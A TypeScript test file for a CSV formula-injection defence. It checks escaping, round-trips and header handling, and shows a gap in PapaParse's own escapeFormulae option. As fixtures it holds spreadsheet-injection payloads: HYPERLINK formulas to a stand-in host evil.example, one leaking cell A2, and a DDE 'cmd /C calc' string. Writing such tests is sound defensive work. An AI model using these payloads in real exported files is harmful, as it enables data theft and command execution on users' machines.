import fc from "fast-check";
import { describe, expect, it } from "vitest";
import Papa from "papaparse";
import { escapeCell, escapeRow, FORMULA_CELL, unescapeCell, unescapeRow } from "./csv-safety";

describe("CSV formula escaping", () => {
  it("neutralises formulas and leaves numbers and text alone", () => {
    expect(escapeCell('=HYPERLINK("https://evil.example","x")')).toBe(
      `'=HYPERLINK("https://evil.example","x")`,
    );
    for (const formula of ["+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
      expect(escapeCell(formula).startsWith("'")).toBe(true);
    for (const plain of ["-5", "+1.25", "-1e-3", "6.1", "Type 2 diabetes", "", "a=b"])
      expect(escapeCell(plain)).toBe(plain);
  });

  it("round-trips every string exactly", () => {
    fc.assert(
      fc.property(fc.string(), (value) => {
        expect(unescapeCell(escapeCell(value))).toBe(value);
        // What still starts like a formula after escaping is a plain number, e.g. +0 or -5.
        const escaped = escapeCell(value);
        if (/^[=+\-@\t\r]/.test(escaped))
          expect(escaped).toMatch(/^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/);
      }),
      { numRuns: 2_000 },
    );
    expect(unescapeCell(escapeCell("'=1"))).toBe("'=1");
  });

  it("escapes the header row too: column names are as hostile as values", () => {
    const row = {
      '=HYPERLINK("https://evil.example/?"&A2,"open")': "1",
      "+cmd|' /C calc'!A0": "2",
      "@SUM(1+1)": "3",
      systolic_bp: "-4",
    };
    const escaped = escapeRow(row);
    const csv = Papa.unparse([escaped], { columns: Object.keys(row).map(escapeCell) });
    const [header] = Papa.parse<string[]>(csv.trim()).data;
    expect(header!.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
    expect(header).toContain("systolic_bp");
    expect(unescapeRow(escaped)).toEqual(row);
  });

  it("gives Papa.unparse the same rule, formulas followed by a line break included", () => {
    // Papa's own `escapeFormulae: true` lets "=1+1\nx" through: its pattern ends at a newline.
    expect(Papa.unparse([["=1+1\nx"]], { escapeFormulae: true })).not.toContain("'=");
    expect(Papa.unparse([["=1+1\nx"]], { escapeFormulae: FORMULA_CELL })).toContain("'=");
    fc.assert(
      fc.property(fc.string(), (value) => {
        const isEscaped = escapeCell(value) !== value;
        if (!value.startsWith("'")) expect(FORMULA_CELL.test(value)).toBe(isEscaped);
      }),
      { numRuns: 2_000 },
    );
  });
});
